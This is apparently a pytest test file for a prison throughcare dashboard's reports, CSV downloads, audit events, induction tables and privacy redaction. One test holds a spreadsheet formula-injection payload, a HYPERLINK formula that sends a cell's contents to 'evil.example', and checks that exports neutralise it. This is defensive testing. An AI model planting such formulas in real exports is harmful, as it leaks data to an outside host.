"""The overview, the review list and the downloads show the core's own figures, and every download is audited."""

from __future__ import annotations

import csv
import datetime as dt
import html
import io
import re

import pytest
from sqlalchemy import select, update

from dashboard.labels import day
from tests.dashboard.conftest import Dashboard
from throughcare.cases import open_steps, staff_members
from throughcare.db.models import AuditEvent, GuidanceQuery, OpenStep, Role, week_of
from throughcare.induction import aid as induction
from throughcare.reporting import reports, review
from throughcare.reporting.reports import Period, QueryFilter, Report


def latest_export(dashboard: Dashboard) -> AuditEvent:
    with dashboard.db.transaction() as transaction:
        event = transaction.scalar(
            select(AuditEvent).where(AuditEvent.entity == "export").order_by(AuditEvent.id.desc())
        )
    assert event is not None
    return event


def expected_reports(dashboard: Dashboard) -> dict[str, tuple[dict[str, str], Report]]:
    """Each report's download parameters and the report the core gives for them."""
    db, knowledge, today = dashboard.db, dashboard.knowledge, dashboard.today
    weeks = Period.weeks_to(today, 4)
    last_month = {"from": weeks.start.isoformat(), "to": weeks.end.isoformat()}
    team_a = QueryFilter(weeks, team="Recovery team A")
    return {
        "fallback": (last_month, reports.fallback_rate(db, QueryFilter(weeks))),
        "topics": ({**last_month, "team": "Recovery team A"}, reports.queries_per_topic_per_week(db, team_a)),
        "unanswered": (last_month, reports.top_unanswered(db, QueryFilter(weeks))),
        "overdue-workers": ({}, reports.overdue_by_worker(db, today)),
        "overdue-stages": ({}, reports.overdue_by_stage(db, today)),
        "caseload": ({}, reports.caseload_by_stage_and_level(db)),
        "assessment-times": ({"half": "2026H1"}, reports.assessment_times(db, knowledge, Period.parse("2026H1"))),
        "mds": ({"half": "2026H1"}, reports.minimum_data_set(db, knowledge, Period.parse("2026H1"))),
    }


@pytest.mark.parametrize(
    "name",
    ["fallback", "topics", "unanswered", "overdue-workers", "overdue-stages", "caseload", "assessment-times", "mds"],
)
def test_each_report_downloads_as_the_cores_csv_and_is_audited(dashboard: Dashboard, name: str) -> None:
    params, expected = expected_reports(dashboard)[name]
    with dashboard.client(dashboard.manager_id) as client:
        response = client.get(f"/reports/{name}.csv", params=params)
    assert response.status_code == 200
    assert response.headers["content-type"] == "text/csv; charset=utf-8"
    assert re.fullmatch(rf'attachment; filename="{name}-[0-9a-zA-Z-]+\.csv"', response.headers["content-disposition"])
    body = response.content.decode("utf-8-sig")
    assert body == expected.csv()
    assert next(csv.reader(io.StringIO(body))) == expected.columns
    event = latest_export(dashboard)
    assert (event.staff_id, event.action) == (dashboard.manager_id, f"{name}.csv")
    assert event.after == {"report": name, "parameters": params, "on": dashboard.today.isoformat()}


def test_an_unknown_report_is_not_found(dashboard: Dashboard) -> None:
    with dashboard.client(dashboard.manager_id) as client:
        assert client.get("/reports/salaries.csv").status_code == 404


def test_the_overview_shows_the_cores_figures_with_plain_links_behind_the_charts(dashboard: Dashboard) -> None:
    db, today = dashboard.db, dashboard.today
    default = QueryFilter(Period.weeks_to(today, 12))
    with dashboard.client(dashboard.manager_id) as client:
        page = html.unescape(client.get("/").text)
        for question, times, last in reports.top_unanswered(db, default).rows:
            assert f'<td>{question}</td><td class="number">{times}</td><td>{day(last)}</td>' in page
        for worker, _team, steps, _clients in reports.overdue_by_worker(db, today).rows:
            assert re.search(rf"<td>{re.escape(worker)}</td><td>[^<]*</td><td class=\"number\">{steps}</td>", page)
        # Without JavaScript, each week of the fallback chart links to that week's questions that fell back.
        fallback = reports.fallback_rate(db, default)
        week, _asked, fell_back, _rate = fallback.rows[-2]
        sunday = week + dt.timedelta(days=6)
        href = f"/queries?from={week.isoformat()}&to={sunday.isoformat()}&fell_back=yes"
        assert f'href="{href}"' in page
        listed = html.unescape(client.get(href).text)
    assert f"{fell_back} question{'' if fell_back == 1 else 's'} from" in listed
    assert len(re.findall(r'<tr id="q\d+">', listed)) == fell_back


def test_the_overview_notes_carry_the_definitions_and_sources(dashboard: Dashboard) -> None:
    mds = reports.minimum_data_set(dashboard.db, dashboard.knowledge, Period.parse("2026H2"))
    with dashboard.client(dashboard.manager_id) as client:
        page = html.unescape(client.get("/").text)
    assert "Minimum data set, July to December 2026" in page
    for note in mds.notes:
        assert f"<li>{note}</li>" in page


def test_the_review_list_filters_and_pages_as_the_core_does(dashboard: Dashboard) -> None:
    weeks = Period.weeks_to(dashboard.today, 12)
    wanted = QueryFilter(weeks, team="Recovery team B", fell_back=False)
    rows, total = review.logged_queries(dashboard.db, wanted, limit=50, offset=50)
    assert len(rows) == 50
    params = {"from": weeks.start.isoformat(), "to": weeks.end.isoformat(), "team": "Recovery team B"}
    with dashboard.client(dashboard.manager_id) as client:
        page = html.unescape(client.get("/queries", params={**params, "fell_back": "no", "page": "2"}).text)
    assert f"{total} questions from" in page
    assert re.findall(r'<tr id="q(\d+)"', page) == [str(row.id) for row in rows]


def test_the_knowledge_gaps_download_is_the_cores_yaml_and_is_audited(dashboard: Dashboard) -> None:
    with dashboard.client(dashboard.manager_id) as client:
        response = client.get("/gaps/nlu.yml")
    gaps = review.knowledge_gaps(dashboard.db)
    assert response.status_code == 200
    assert response.headers["content-disposition"].startswith('attachment; filename="knowledge-gaps-')
    assert response.text == review.gaps_as_nlu(gaps)
    event = latest_export(dashboard)
    assert (event.action, event.after) == ("knowledge-gaps.nlu.yml", {"gaps": len(gaps)})


def test_managers_see_their_teams_induction_progress(dashboard: Dashboard) -> None:
    db, knowledge, today = dashboard.db, dashboard.knowledge, dashboard.today
    newcomer = staff_members.add_staff(db, "Nia Newstart", Role.practitioner, "Recovery team B")
    first = next(iter(knowledge.tours))
    induction.open_tour(db, knowledge, newcomer, first)
    scenario = next(iter(knowledge.scenarios.values()))
    wrong = next(n for n, o in enumerate(scenario.options) if not o.correct)
    induction.answer_scenario(db, knowledge, newcomer, scenario.id, wrong)
    expected = reports.induction_progress(db, knowledge, today)
    (row,) = [r for r in expected.rows if r[0] == "Nia Newstart"]
    assert row[3] == "0 of 1" and knowledge.tours[scenario.tour].title in row[4]
    with dashboard.client(dashboard.manager_id) as client:
        page = html.unescape(client.get("/").text)
        download = client.get("/reports/induction.csv").content.decode("utf-8-sig")
    assert all(str(value) in page for value in row)
    assert download == expected.csv()


def test_the_induction_table_shows_one_teams_new_starters(dashboard: Dashboard) -> None:
    db, knowledge, today = dashboard.db, dashboard.knowledge, dashboard.today
    for name, team in (("Ola Onboard", "Recovery team A"), ("Bea Beginner", "Recovery team B")):
        induction.open_tour(
            db, knowledge, staff_members.add_staff(db, name, Role.practitioner, team), next(iter(knowledge.tours))
        )
    team_b = reports.induction_progress(db, knowledge, today, "Recovery team B")
    assert team_b.rows and {row[1] for row in team_b.rows} == {"Recovery team B"}
    chosen = {"induction_team": "Recovery team B"}
    with dashboard.client(dashboard.manager_id) as client:
        page = html.unescape(client.get("/", params=chosen).text)
        download = client.get("/reports/induction.csv", params=chosen).content.decode("utf-8-sig")
    table = page[page.index('<table id="induction-table">') :]
    table = table[: table.index("</table>")]
    assert "Bea Beginner" in table and "Ola Onboard" not in table
    assert len(re.findall(r"<tr><td>", table)) == len(team_b.rows)
    assert '<option value="Recovery team B" selected>Recovery team B</option>' in page
    # The other forms on the page keep the team chosen, as this one keeps theirs.
    assert page.count('<input type="hidden" name="induction_team" value="Recovery team B">') == 2
    assert download == team_b.csv()
    assert latest_export(dashboard).after["parameters"] == chosen


def test_the_overdue_figures_say_when_the_open_steps_were_worked_out(dashboard: Dashboard) -> None:
    # The demo's open steps were worked out on the day it was loaded, the dashboard's today.
    assert open_steps.open_steps_computed_on(dashboard.db) == dashboard.today
    with dashboard.client(dashboard.manager_id) as client:
        current = " ".join(html.unescape(client.get("/").text).split())
        # Three days without the daily refresh: the same figures say how old they are and what to do.
        three_days_ago = dashboard.today - dt.timedelta(days=3)
        with dashboard.db.transaction() as transaction:
            transaction.execute(update(OpenStep).values(computed_on=three_days_ago))
        try:
            stale = " ".join(html.unescape(client.get("/").text).split())
        finally:
            with dashboard.db.transaction() as transaction:
                transaction.execute(update(OpenStep).values(computed_on=dashboard.today))
    assert current.count(f"Open steps last worked out today, {day(dashboard.today)}.") == 2
    assert stale.count(f"Open steps last worked out on {day(three_days_ago)}, 3 days ago") == 2
    assert "throughcare steps refresh" in stale and "throughcare steps refresh" not in current


def _log(dashboard: Dashboard, staff_id: int | None, text: str, answer: str, hour: int, fell_back: bool) -> None:
    when = dt.datetime.combine(dashboard.today, dt.time(hour, 59), tzinfo=dt.timezone.utc)
    with dashboard.db.transaction() as transaction:
        transaction.add(
            GuidanceQuery(
                at=when,
                week=week_of(when),
                staff_id=staff_id,
                text=text,
                answer=answer,
                intent="nlu_fallback" if fell_back else "ask_next_steps",
                topic="nlu_fallback" if fell_back else "ask_next_steps",
                fell_back=fell_back,
                action="action_x",
            )
        )


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'


def test_a_formula_typed_into_a_question_downloads_as_text(dashboard: Dashboard) -> None:
    _log(dashboard, None, FORMULA, "", 20, True)
    _log(dashboard, dashboard.practitioner_id, "@SUM(1+1)*cmd", "", 20, True)
    with dashboard.client(dashboard.manager_id) as client:
        staff = client.get("/reports/unanswered.csv").content.decode("utf-8-sig")
        everyone = client.get("/reports/unanswered.csv", params={"asked_by": "anyone"}).content.decode("utf-8-sig")
    cells = {row[0] for row in csv.reader(io.StringIO(everyone))}
    assert "'" + FORMULA.lower() in cells and "'@sum(1+1)*cmd" in cells
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in cells)
    # The unsigned message is not among the staff's unanswered questions.
    staff_cells = {row[0] for row in csv.reader(io.StringIO(staff))}
    assert "'@sum(1+1)*cmd" in staff_cells and "'" + FORMULA.lower() not in staff_cells


def test_unsigned_messages_are_shown_apart_from_the_staff_figures(dashboard: Dashboard) -> None:
    db, today = dashboard.db, dashboard.today
    _log(dashboard, None, "what's next for A1234BC?", "", 21, False)
    _log(dashboard, None, "wifi password", "", 21, True)
    default = QueryFilter(Period.weeks_to(today, 12))
    unsigned = reports.unsigned_queries(db, default)
    week, count, _fell_back = unsigned.rows[-1]
    assert week == week_of(dt.datetime.combine(today, dt.time(12), tzinfo=dt.timezone.utc)) and count >= 2
    with dashboard.client(dashboard.manager_id) as client:
        page = html.unescape(client.get("/").text)
        assert "Messages not signed by staff" in page
        for row_week, row_count, row_fell_back in unsigned.rows:
            assert (
                f'<td>{day(row_week)}</td><td class="number">{row_count}</td><td class="number">{row_fell_back}</td>'
                in page
            )
        # The staff figures are the staff's alone: their weekly total leaves the unsigned messages out.
        (staff_week,) = [r for r in reports.fallback_rate(db, default).rows if r[0] == week]
        everyone = reports.fallback_rate(db, QueryFilter(default.period, signed=None))
        assert staff_week[1] == next(r for r in everyone.rows if r[0] == week)[1] - count
        assert f'<td>{day(week)}</td><td class="number">{staff_week[1]}</td>' in page
        sunday = min(week + dt.timedelta(days=6), default.period.end)
        listed = html.unescape(client.get(f"/queries?from={week}&to={sunday}&asked_by=unsigned").text)
    assert f"{count} question{'' if count == 1 else 's'} from" in listed
    assert listed.count("(not signed in)") == min(count, 50)


def test_answers_show_clients_by_prison_number_without_initials(dashboard: Dashboard) -> None:
    answer = "Next for A1234BC (JS): the initial assessment is overdue. Also due for B2345CD (KL) on Friday."
    _log(dashboard, dashboard.practitioner_id, "whats next for A1234BC", answer, 23, False)
    with dashboard.client(dashboard.manager_id) as client:
        page = html.unescape(client.get("/queries").text)
    assert "Next for A1234BC: the initial assessment is overdue. Also due for B2345CD on Friday." in page
    assert "(JS)" not in page and "(KL)" not in page
    assert (
        "Personal data on these pages: staff members' names and teams, and each question word for word as staff "
        "typed it. Clients appear by prison number only, where a question or an answer names one; the assistant's "
        "answers are shown without clients' initials."
    ) in page
